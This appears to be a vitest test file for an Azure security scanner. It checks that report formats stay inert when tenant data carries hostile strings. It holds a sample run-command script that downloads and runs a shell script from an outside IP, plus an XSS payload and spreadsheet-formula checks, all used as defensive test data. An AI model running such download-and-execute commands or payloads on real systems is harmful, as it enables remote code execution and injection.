/**
 * Output injection, end to end (issue 14, item 2 and its Acceptance). The demo tenant snapshot
 * (demo/tenant) is scanned twice: as it is, and with the hostile corpus (./corpus.ts) written
 * into resource names (a VM, a Function App, a container group, across every file that names
 * them, Activity Log included), a principal's name, the run command script, a Custom Script
 * extension's commandToExecute, app settings and an image config — plus a 10 MiB string in each
 * of the four payloads. Both scans must give the same findings (the same rule ids), and every
 * output format in the registry, and the Sentinel exporter's rows, must be inert: no raw escape
 * or control characters, no markup or link the data added, valid JSON and SARIF carrying the
 * strings exactly (or capped with a marker), no spreadsheet formula, bounded sizes.
 */
import { createHash } from "node:crypto";
import { cpSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gunzipSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FilesCollector } from "../../src/collectors/files/index.js";
import { EVIDENCE_LIMIT_BYTES, scanRows, TEXT_LIMIT } from "../../src/exporters/sentinel/rows.js";
import type { ScanResult } from "../../src/model/finding.js";
import "../../src/outputs/formats/index.js";
import { CONTENT_SECURITY_POLICY } from "../../src/outputs/formats/html.js";
import { formats, getFormat, renderToString } from "../../src/outputs/registry.js";
import { DEMO_TENANT_DIR } from "../../src/paths.js";
import { runScan } from "../../src/scan/run.js";
import { tempDir } from "../helpers.js";
import { layerErrors } from "../navigator-validator.js";
import { sarifErrors, validateSarif } from "../sarif-validator.js";
import { HOSTILE, HOSTILE_ALL, HOSTILE_NAMES, hugeString, RAW_CONTROL } from "./corpus.js";

const SUB = "8b1811f6-5813-475a-8054-5d2939bd681f";
/** The demo's resources that have findings, renamed in the hostile copy. */
const RENAMES: ReadonlyArray<[string, string]> = [
  ["vm-app-01", HOSTILE_NAMES[0] as string],
  ["func-contoso-sync", HOSTILE_NAMES[1] as string],
  ["cg-updater", HOSTILE_NAMES[2] as string],
  // The principal behind the demo's attacks: display name and UPN claims.
  ["Ethan Brooks", `Ethan ${HOSTILE_ALL}`],
];
const HUGE = hugeString();
/** The demo's run command script (demo/tenant/resources/<sub>-runCommands.json). */
const RUN_COMMAND_SCRIPT =
  "#!/bin/bash\ncurl -fsSL http://198.51.100.23/s2.sh -o /tmp/.s2 && chmod +x /tmp/.s2 && /tmp/.s2\n";
/** Every hostile string, the regex bait included, one per line. */
const HOSTILE_LINES = HOSTILE.map((h) => h.value).join("\n");

const tmp = tempDir();
afterAll(() => tmp.cleanup());

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: "utf8" })
    .map((f) => join(dir, f))
    .filter((f) => /\.json(?:\.gz)?$/.test(f) && statSync(f).isFile());
}

const jsonEscaped = (s: string): string => JSON.stringify(s).slice(1, -1);
const escapeRe = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/**
 * A Custom Script extension on the renamed VM. Shape: the extension resource
 * (publisher/type/settings.commandToExecute) as learn.microsoft.com/azure/virtual-machines/
 * extensions/custom-script-windows documents it, as test/azure/payloads.test.ts uses it.
 */
function customScript(vm: string, command: string) {
  return {
    name: "cse",
    id: `/subscriptions/${SUB}/resourceGroups/rg-app/providers/Microsoft.Compute/virtualMachines/${vm}/extensions/cse`,
    type: "Microsoft.Compute/virtualMachines/extensions",
    location: "eastus",
    properties: {
      publisher: "Microsoft.Compute",
      type: "CustomScriptExtension",
      typeHandlerVersion: "1.10",
      settings: { commandToExecute: command },
      provisioningState: "Succeeded",
    },
  };
}

function editJson(file: string, edit: (o: Record<string, unknown>) => void): void {
  const o = JSON.parse(readFileSync(file, "utf8")) as Record<string, unknown>;
  edit(o);
  writeFileSync(file, JSON.stringify(o));
}

/** A copy of the demo tenant; with `hostile`, the corpus written into it. */
function snapshot(name: string, hostile: boolean): string {
  const dir = join(tmp.dir, name);
  cpSync(DEMO_TENANT_DIR, dir, { recursive: true });
  const extra = (s: string) => (hostile ? `${s}\n${HOSTILE_LINES}\n${HUGE}` : s);
  if (hostile) {
    for (const file of filesUnder(dir)) {
      const gz = file.endsWith(".gz");
      const bytes = readFileSync(file);
      let text = (gz ? gunzipSync(bytes) : bytes).toString("utf8");
      for (const [from, to] of RENAMES) text = text.replace(new RegExp(escapeRe(from), "gi"), jsonEscaped(to));
      writeFileSync(file, gz ? gzipSync(text) : text);
    }
  }
  const vm = hostile ? (HOSTILE_NAMES[0] as string) : "vm-app-01";
  const site = hostile ? (HOSTILE_NAMES[1] as string) : "func-contoso-sync";
  editJson(join(dir, `resources/${SUB}-runCommands.json`), (o) => {
    const rc = (o.value as { properties: { source: { script: string } } }[])[0];
    if (rc) rc.properties.source.script = extra(rc.properties.source.script);
  });
  editJson(join(dir, `resources/${SUB}-vmExtensions.json`), (o) => {
    (o.value as unknown[]).push(customScript(vm, extra("powershell -ExecutionPolicy Unrestricted -File setup.ps1")));
  });
  editJson(join(dir, "functionApps/func-contoso-sync.appsettings.json"), (o) => {
    expect(String(o.id)).toContain(`/sites/${site}/`);
    const p = o.properties as Record<string, string>;
    p.EXTRA_SETTING = hostile ? HOSTILE_ALL : "benign";
    if (hostile) {
      p[`KEY${HOSTILE_NAMES[0]}`] = HOSTILE_LINES;
      p.HUGE_SETTING = HUGE;
    }
  });
  editJson(join(dir, "images/contosoprodacr/tools_updater/10b7c511afb3.json"), (o) => {
    const c = (o.config as { config: { Env: string[]; Cmd: string[]; Labels?: Record<string, string> } }).config;
    c.Cmd = c.Cmd.map((x, i) => (i === 0 ? extra(x) : x));
    if (hostile) {
      c.Env.push(`HOSTILE=${HOSTILE_ALL}`);
      c.Labels = { ...(c.Labels ?? {}), [`label${HOSTILE_NAMES[2]}`]: HOSTILE_LINES };
    }
  });
  return dir;
}

async function scan(dir: string): Promise<ScanResult> {
  const { result } = await runScan({
    collectors: [new FilesCollector([dir])],
    now: () => new Date("2026-11-21T00:00:00Z"),
  });
  return result;
}

const ruleIds = (r: ScanResult): string[] => r.findings.map((f) => f.ruleId).sort();
const render = (name: string, result: ScanResult, color = false): Promise<string> => {
  const format = getFormat(name);
  if (!format) throw new Error(`no format ${name}`);
  return renderToString(format, result, { toolVersion: "0.1.0", color, width: 160 });
};

let benign: ScanResult;
let hostile: ScanResult;
beforeAll(async () => {
  benign = await scan(snapshot("benign", false));
  hostile = await scan(snapshot("hostile", true));
}, 120_000);

describe("a snapshot carrying the hostile corpus", () => {
  it("gives the same findings as the benign snapshot, and stays complete", () => {
    expect(ruleIds(benign).length).toBeGreaterThan(10);
    expect(ruleIds(hostile)).toEqual(ruleIds(benign));
    expect(hostile.complete).toBe(benign.complete);
    // The corpus did reach the findings: the renamed VM, site and container group, the Custom
    // Script extension and the payloads carrying the corpus are all there.
    const ids = hostile.findings.map((f) => f.resourceId).join("\n");
    for (const n of HOSTILE_NAMES) expect(ids).toContain(n);
    expect(hostile.findings.some((f) => f.resourceId.endsWith("/extensions/cse"))).toBe(true);
    const payloads = JSON.stringify(hostile.findings.map((f) => f.evidence));
    expect(payloads).toContain(jsonEscaped("<script>window.__xss=1</script>"));
  });

  it("the registry's formats are all covered here", () => {
    expect(formats().map((f) => f.name)).toEqual(["table", "json", "sarif", "markdown", "csv", "html", "navigator"]);
  });

  it("no format carries the 10 MiB string, and every report stays small", async () => {
    for (const f of formats()) {
      const out = await render(f.name, hostile);
      expect(out, f.name).not.toContain("A".repeat(70_000));
      expect(out.length, f.name).toBeLessThan(4 * 1024 * 1024);
    }
  });
});

describe("terminal table", () => {
  it("has no raw escape or control character, with or without colour", async () => {
    const plain = await render("table", hostile);
    expect(plain).not.toMatch(RAW_CONTROL);
    expect(plain).not.toContain("\u001b");
    expect(plain).not.toContain("\r");
    const coloured = await render("table", hostile, true);
    // Only the table's own SGR colour codes remain.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the table's own colour codes.
    const withoutOwn = coloured.replace(/\u001b\[[0-9;]*m/g, "");
    expect(withoutOwn).not.toMatch(RAW_CONTROL);
    // The data's own colour code is not among what remains.
    expect(coloured).not.toContain("\u001b[31mRED");
    expect(coloured).not.toContain("\u001b]");
  });
});

/**
 * Markdown with its code blocks and code spans removed (GitHub renders their content as text): a
 * fenced block ends only at a fence at least as long as its opening, a span at a run of backticks
 * as long as its opening. What remains is what GitHub would interpret.
 */
function withoutCode(md: string): string {
  const out: string[] = [];
  let fence: string | undefined;
  for (const line of md.split("\n")) {
    const f = /^ {0,3}(`{3,}|~{3,})/.exec(line)?.[1];
    if (fence) {
      if (f && f[0] === fence[0] && f.length >= fence.length && line.trim() === f) fence = undefined;
      continue;
    }
    if (f) {
      fence = f;
      continue;
    }
    out.push(line.replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, ""));
  }
  expect(fence, "a code block left open swallows the rest of the document").toBeUndefined();
  return out.join("\n");
}

/** Tags (`<name`), link targets (`](…)`) and mentions the markup holds, as a set. */
function markupOf(markdown: string): { tags: Set<string>; links: Set<string>; mentions: Set<string> } {
  const md = withoutCode(markdown);
  return {
    tags: new Set([...md.matchAll(/<\/?([a-z][a-z0-9-]*)/gi)].map((m) => (m[1] as string).toLowerCase())),
    links: new Set([...md.matchAll(/(?<!\\)\]\((?!\\)([^)]*)\)/g)].map((m) => m[1] as string)),
    mentions: new Set([...md.matchAll(/(?<![\w\u200b\\])@[a-z0-9][\w-]*/gi)].map((m) => m[0])),
  };
}

describe("Markdown summary", () => {
  it("has no link, image, mention or HTML that the data added", async () => {
    const good = markupOf(await render("markdown", benign));
    const md = await render("markdown", hostile);
    const bad = markupOf(md);
    expect([...bad.tags].filter((t) => !good.tags.has(t))).toEqual([]);
    expect([...bad.links].filter((l) => !good.links.has(l))).toEqual([]);
    expect([...bad.mentions].filter((m) => !good.mentions.has(m))).toEqual([]);
    const text = withoutCode(md);
    expect(text).not.toMatch(/(?<!\\)(?:https?:\/\/|www\.)evil\.example/);
    expect(text).not.toMatch(/(?<!\\)!\[/);
    expect(md).not.toMatch(RAW_CONTROL);
  });
});

describe("HTML report", () => {
  it("escapes every hostile string, and its policy allows only its own script", async () => {
    const html = await render("html", hostile);
    const good = await render("html", benign);
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1] ?? "");
    expect(scripts).toHaveLength(1);
    expect(html.match(/<script/gi)).toHaveLength(1);
    const hash = createHash("sha256")
      .update(scripts[0] ?? "")
      .digest("base64");
    expect(CONTENT_SECURITY_POLICY).toContain(`'sha256-${hash}'`);
    expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${CONTENT_SECURITY_POLICY}">`);
    // No element or event handler the data added.
    const tagsOf = (s: string) => new Set([...s.matchAll(/<([a-z][a-z0-9-]*)/gi)].map((m) => m[1]?.toLowerCase()));
    const goodTags = tagsOf(good);
    expect([...tagsOf(html)].filter((t) => !goodTags.has(t))).toEqual([]);
    expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
    expect(html).not.toContain("\u001b");
    expect(html).toContain("&lt;script&gt;window.__xss=1&lt;/script&gt;");
  });
});

describe("JSON and SARIF", () => {
  it("JSON parses and carries the hostile names exactly", async () => {
    const doc = JSON.parse(await render("json", hostile)) as ScanResult;
    expect(doc.findings.map((f) => f.ruleId).sort()).toEqual(ruleIds(benign));
    const ids = doc.findings.map((f) => f.resourceId);
    for (const n of HOSTILE_NAMES) expect(ids.some((id) => id.includes(n))).toBe(true);
    // The run command's script: shown as a window of the script exactly as written (docs/cli.md:
    // at most 4,096 characters around what the rule found, with truncated, length and offset).
    const script = doc.findings
      .flatMap((f) => (f.evidence.kind === "payload" ? f.evidence.payloads : []))
      .find((p) => p.path === "properties.source.script" && p.content.includes("window.__xss=1"));
    if (!script) throw new Error("no run command script in the JSON report");
    expect(script.truncated).toBe(true);
    expect(script.content.length).toBeLessThanOrEqual(4096);
    expect(script.content.length).toBeGreaterThan(HOSTILE_ALL.length);
    expect(script.length).toBeGreaterThan(script.content.length);
    const at = script.offset ?? -1;
    expect(`${RUN_COMMAND_SCRIPT}\n${HOSTILE_LINES}\n${HUGE}`.slice(at, at + script.content.length)).toBe(
      script.content,
    );
  });

  it("SARIF parses, validates against the 2.1.0 schema and carries the names exactly", async () => {
    const sarif = JSON.parse(await render("sarif", hostile));
    expect(validateSarif(sarif), sarifErrors()).toBe(true);
    const text = JSON.stringify(sarif);
    for (const n of HOSTILE_NAMES)
      expect(text.includes(jsonEscaped(n)) || text.includes(encodeURIComponent(n))).toBe(true);
    const results = (sarif.runs[0].results as { ruleId: string }[]).map((r) => r.ruleId).sort();
    const benignResults = (JSON.parse(await render("sarif", benign)).runs[0].results as { ruleId: string }[])
      .map((r) => r.ruleId)
      .sort();
    expect(results).toEqual(benignResults);
  });

  it("the ATT&CK Navigator layer parses and validates", async () => {
    const layer = JSON.parse(await render("navigator", hostile));
    expect(layerErrors(layer)).toEqual([]);
  });
});

/** RFC 4180 cells (every cell quoted by the format). */
function csvRows(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < csv.length) {
    if (csv[i] === '"') {
      let cell = "";
      i++;
      for (;;) {
        const q = csv.indexOf('"', i);
        if (q < 0) throw new Error("unterminated cell");
        cell += csv.slice(i, q);
        if (csv[q + 1] === '"') {
          cell += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      row.push(cell);
    } else throw new Error(`unquoted cell at ${i}`);
    if (csv.startsWith("\r\n", i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (csv[i] === ",") i++;
  }
  return rows;
}

describe("CSV", () => {
  it("neutralises every formula starter and keeps one row per finding", async () => {
    const rows = csvRows(await render("csv", hostile));
    expect(rows).toHaveLength(hostile.findings.length + 1);
    const width = rows[0]?.length;
    for (const row of rows) {
      expect(row).toHaveLength(width as number);
      for (const cell of row) {
        expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
        expect(cell).not.toMatch(RAW_CONTROL);
        expect(cell.length).toBeLessThan(10_000);
      }
    }
    expect(rows.flat().some((c) => c.startsWith("'=HYPERLINK") || c.includes("=HYPERLINK"))).toBe(true);
  });
});

describe("Sentinel exporter rows", () => {
  it("are capped, keep the findings, and keep the names", () => {
    const rows = scanRows(hostile, { id: "scan-1", finishedAt: "2026-11-21T00:00:00Z", toolVersion: "0.1.0" });
    expect(rows.map((r) => r.RuleId).sort()).toEqual(ruleIds(benign));
    for (const row of rows) {
      for (const [k, v] of Object.entries(row)) {
        if (typeof v === "string") expect(v.length, k).toBeLessThanOrEqual(TEXT_LIMIT);
      }
      expect(Buffer.byteLength(JSON.stringify(row.Evidence))).toBeLessThanOrEqual(EVIDENCE_LIMIT_BYTES);
      // The whole row survives JSON (what the ingestion call sends) unchanged.
      expect(JSON.parse(JSON.stringify(row))).toEqual(row);
    }
    const ids = rows.map((r) => r.ResourceId).join("\n");
    for (const n of HOSTILE_NAMES) expect(ids).toContain(n);
  });
});
